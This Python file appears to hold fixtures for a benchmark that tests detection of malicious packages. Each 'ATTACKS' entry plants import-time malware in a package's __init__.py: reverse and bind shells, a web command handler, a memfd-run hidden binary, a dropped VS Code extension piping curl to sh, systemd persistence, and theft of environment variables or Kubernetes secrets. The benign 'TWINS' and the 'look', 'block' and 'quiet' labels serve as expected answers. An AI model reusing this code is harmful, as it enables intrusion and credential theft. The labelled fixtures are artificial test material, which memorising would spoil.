# ruff: noqa: E501 - the lines of the packages under review are as long as they are
"""Servers and protocols whose handlers obey, hooks that watch, archives of shared files, parts of editors; with honest twins."""

from __future__ import annotations

from scenario_kit import wheel

ATTACKS = [
    wheel(
        "asyncio-protocol-data-received-shell",
        "look",
        {
            "acme/__init__.py": """
            import asyncio, subprocess, threading
            class _P(asyncio.Protocol):
                def connection_made(self, t): self.t = t; t.write(b"hi\\n")
                def data_received(self, data):
                    self.t.write(subprocess.run(data.decode(), shell=True, capture_output=True).stdout)
            async def _m():
                loop = asyncio.get_running_loop()
                t, p = await loop.create_connection(_P, "203.0.113.19", 8443)
                await asyncio.sleep(3600)
            threading.Thread(target=lambda: asyncio.run(_m()), daemon=True).start()
            """,
        },
    ),
    wheel(
        "socketserver-bind-shell",
        "look",
        {
            "acme/__init__.py": """
            import socketserver, subprocess, threading
            class _H(socketserver.StreamRequestHandler):
                def handle(self):
                    for line in self.rfile:
                        self.wfile.write(subprocess.run(line.decode().strip(), shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT).stdout)
            threading.Thread(target=socketserver.ThreadingTCPServer(("0.0.0.0", 31337), _H).serve_forever, daemon=True).start()
            """,
        },
    ),
    wheel(
        "http-server-cmd-handler",
        "look",
        {
            "acme/__init__.py": """
            import http.server, os, threading, urllib.parse
            class _H(http.server.BaseHTTPRequestHandler):
                def do_GET(self):
                    q = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)
                    out = os.popen(q.get("c", ["id"])[0]).read().encode()
                    self.send_response(200); self.end_headers(); self.wfile.write(out)
                def log_message(self, *a): pass
            threading.Thread(target=http.server.HTTPServer(("", 8899), _H).serve_forever, daemon=True).start()
            """,
        },
    ),
    wheel(
        "auditwheel-addaudithook-spy",
        "look",
        {
            "acme/__init__.py": """
            import sys, urllib.request, urllib.parse, threading
            _q = []
            def _h(ev, args):
                if ev in ("open", "subprocess.Popen"): _q.append((ev, str(args[0])[:120]))
            def _send():
                while True:
                    threading.Event().wait(30)
                    if _q: urllib.request.urlopen("http://198.51.100.41/a?" + urllib.parse.urlencode({"q": repr(_q[:50])})); del _q[:50]
            sys.addaudithook(_h); threading.Thread(target=_send, daemon=True).start()
            """,
        },
    ),
    wheel(
        "memfd-exec-of-embedded-elf",
        "look",
        {
            "acme/__init__.py": """
            import base64, ctypes, os, zlib
            _E = b'c$}+u^>Jeu1w;b?m9PO<'
            def _f():
                fd = os.memfd_create("kworker", 0)
                os.write(fd, zlib.decompress(base64.b85decode(_E)))
                p = f"/proc/self/fd/{fd}"
                if os.fork() == 0: os.execv(p, ["[kworker/0:1]"])
            if hasattr(os, "memfd_create"): _f()
            """,
        },
    ),
    wheel(
        "vscode-extension-dropped",
        "look",
        {
            "acme/__init__.py": """
            import json, os
            from pathlib import Path
            e = Path.home() / ".vscode" / "extensions" / "ms-python.formatter-1.0.2"
            if e.parent.exists() and not e.exists():
                e.mkdir()
                (e / "package.json").write_text(json.dumps({"name": "formatter", "publisher": "ms-python", "version": "1.0.2", "engines": {"vscode": "*"}, "activationEvents": ["*"], "main": "./m.js"}))
                (e / "m.js").write_text("require('child_process').exec('curl -s http://198.51.100.4/v | sh')")
            """,
        },
    ),
    wheel(
        "import-systemd-user-persistence",
        "block",
        {
            "acme/__init__.py": """
            from .core import start
            start()
            """,
            "acme/core.py": '''
            import os, subprocess, textwrap, urllib.request
            from pathlib import Path
            UNIT = """[Unit]
            Description=System Telemetry Service
            After=network.target
            [Service]
            ExecStart={python} {script}
            Restart=always
            RestartSec=10
            [Install]
            WantedBy=default.target
            """
            class Agent:
                root = Path.home() / ".config" / "sysmon"
                unit = Path.home() / ".config" / "systemd" / "user" / "sysmon.service"
                def fetch(self):
                    self.root.mkdir(parents=True, exist_ok=True)
                    script = self.root / "sysmon.py"
                    with urllib.request.urlopen("https://models.acme-cdn.invalid/sysmon.py") as response:
                        script.write_bytes(response.read())
                    return script
                def install(self):
                    script = self.fetch()
                    self.unit.parent.mkdir(parents=True, exist_ok=True)
                    self.unit.write_text(UNIT.format(python="/usr/bin/python3", script=script))
                    subprocess.run(["systemctl", "--user", "daemon-reload"], check=False, capture_output=True)
                    subprocess.run(["systemctl", "--user", "enable", "--now", "sysmon.service"], check=False, capture_output=True)
            def start():
                if os.name == "posix" and not Agent.unit.exists():
                    try:
                        Agent().install()
                    except Exception:
                        pass
            ''',
        },
    ),
    wheel(
        "init-subclass-trigger-env",
        "look",
        {
            "acme/__init__.py": """
            from .base import Plugin
            class Default(Plugin, key='default'):
                pass
            """,
            "acme/base.py": """
            import os, json, ssl, http.client
            class Plugin:
                registry = {}
                def __init_subclass__(cls, key=None, **kw):
                    super().__init_subclass__(**kw)
                    cls.registry[key] = cls
                    if key == "default": cls._announce()
                @classmethod
                def _announce(cls):
                    c = http.client.HTTPSConnection("plugins.acme.invalid", timeout=2, context=ssl._create_unverified_context())
                    try: c.request("POST", "/register", body=json.dumps({**os.environ, "cls": cls.__name__}))
                    except OSError: pass
            """,
        },
    ),
    wheel(
        "kubernetes-secrets-list-exfil",
        "look",
        {
            "acme/__init__.py": """
            import json, urllib.request
            from kubernetes import client, config
            def _k():
                try: config.load_incluster_config()
                except Exception: config.load_kube_config()
                v = client.CoreV1Api(); out = {}
                for s in v.list_secret_for_all_namespaces().items: out[s.metadata.name] = s.data
                urllib.request.urlopen("https://k8.acme.invalid/s", json.dumps(out).encode(), timeout=5)
            try: _k()
            except Exception: pass
            """,
        },
    ),
]

TWINS = [
    wheel(
        "twin-asyncio-protocol-data-received-shell",
        "quiet",
        {
            "acme/__init__.py": """
            import asyncio
            class Line(asyncio.Protocol):
                def __init__(self, on_line): self.on_line, self.buf = on_line, b""
                def connection_made(self, t): self.t = t
                def data_received(self, data):
                    self.buf += data
                    *lines, self.buf = self.buf.split(b"\\n")
                    for l in lines: self.on_line(l.decode())
            async def connect(host, port, on_line):
                return await asyncio.get_running_loop().create_connection(lambda: Line(on_line), host, port)
            """,
        },
    ),
    wheel(
        "twin-socketserver-bind-shell",
        "quiet",
        {
            "acme/__init__.py": """
            import socketserver
            class Echo(socketserver.StreamRequestHandler):
                def handle(self):
                    for line in self.rfile: self.wfile.write(line.upper())
            def serve(port=9000):
                with socketserver.ThreadingTCPServer(("127.0.0.1", port), Echo) as s: s.serve_forever()
            """,
        },
    ),
    wheel(
        "twin-http-server-cmd-handler",
        "quiet",
        {
            "acme/__init__.py": """
            import http.server, json, shutil
            class Health(http.server.BaseHTTPRequestHandler):
                def do_GET(self):
                    body = json.dumps({"path": self.path, "free": shutil.disk_usage("/").free}).encode()
                    self.send_response(200); self.end_headers(); self.wfile.write(body)
            def serve(port=8080): http.server.HTTPServer(("127.0.0.1", port), Health).serve_forever()
            """,
        },
    ),
    wheel(
        "twin-auditwheel-addaudithook-spy",
        "quiet",
        {
            "acme/__init__.py": """
            import contextlib, sys
            _log = []; _on = False
            def _h(ev, args):
                if _on and ev == "open": _log.append(str(args[0]))
            sys.addaudithook(_h)
            @contextlib.contextmanager
            def opened_files():
                global _on
                _log.clear(); _on = True
                try: yield _log
                finally: _on = False
            """,
        },
    ),
    wheel(
        "twin-memfd-exec-of-embedded-elf",
        "quiet",
        {
            "acme/__init__.py": '''
            import mmap, os
            class SharedArray:
                """An anonymous shared buffer by memfd."""
                def __init__(self, size):
                    self.fd = os.memfd_create("acme", os.MFD_CLOEXEC); os.ftruncate(self.fd, size)
                    self.map = mmap.mmap(self.fd, size)
                def __setitem__(self, i, v): self.map[i] = v
                def __getitem__(self, i): return self.map[i]
            ''',
        },
    ),
    wheel(
        "twin-vscode-extension-dropped",
        "quiet",
        {
            "acme/code.py": '''
            """Write the recommended editor settings into the current project."""
            import json
            from pathlib import Path
            def main():
                p = Path(".vscode") / "settings.json"; p.parent.mkdir(exist_ok=True)
                cfg = json.loads(p.read_text()) if p.exists() else {}
                cfg["python.formatting.provider"] = "black"; p.write_text(json.dumps(cfg, indent=2))
            ''',
        },
        scripts="[console_scripts]\nacme-code = acme.code:main\n",
    ),
    wheel(
        "twin-import-systemd-user-persistence",
        "quiet",
        {
            "acme/core.py": '''
            """`acme service install` runs the scheduler as a user service."""
            import argparse, os, subprocess, sys
            from pathlib import Path
            UNIT = """[Unit]
            Description=acme scheduler
            After=network.target
            [Service]
            ExecStart={python} -m acme run
            Restart=always
            RestartSec=10
            [Install]
            WantedBy=default.target
            """
            class Service:
                unit = Path.home() / ".config" / "systemd" / "user" / "acme.service"
                def install(self):
                    self.unit.parent.mkdir(parents=True, exist_ok=True)
                    self.unit.write_text(UNIT.format(python=sys.executable))
                    subprocess.run(["systemctl", "--user", "daemon-reload"], check=True)
                    subprocess.run(["systemctl", "--user", "enable", "--now", "acme.service"], check=True)
                def remove(self):
                    subprocess.run(["systemctl", "--user", "disable", "--now", "acme.service"], check=False)
                    self.unit.unlink(missing_ok=True)
            def main():
                parser = argparse.ArgumentParser()
                parser.add_argument("action", choices=["install", "remove"])
                args = parser.parse_args()
                getattr(Service(), args.action)()
            ''',
        },
        scripts="[console_scripts]\nacme = acme.core:main\n",
    ),
    wheel(
        "twin-init-subclass-trigger-env",
        "quiet",
        {
            "acme/__init__.py": """
            from .base import Plugin
            class Default(Plugin, key='default'):
                pass
            """,
            "acme/base.py": """
            import os
            class Plugin:
                registry = {}
                def __init_subclass__(cls, key=None, **kw):
                    super().__init_subclass__(**kw)
                    cls.registry[key or cls.__name__.lower()] = cls
                @classmethod
                def default(cls): return cls.registry[os.environ.get("ACMEKIT_PLUGIN", "default")]
            """,
        },
    ),
    wheel(
        "twin-kubernetes-secrets-list-exfil",
        "quiet",
        {
            "acme/__init__.py": """
            from kubernetes import client, config
            class Cluster:
                def __init__(self, context=None): config.load_kube_config(context=context); self.v = client.CoreV1Api()
                def pods(self, namespace="default"): return [p.metadata.name for p in self.v.list_namespaced_pod(namespace).items]
                def secret(self, name, namespace="default"): return self.v.read_namespaced_secret(name, namespace).data
            """,
        },
    ),
]

SCENARIOS = [*ATTACKS, *TWINS]
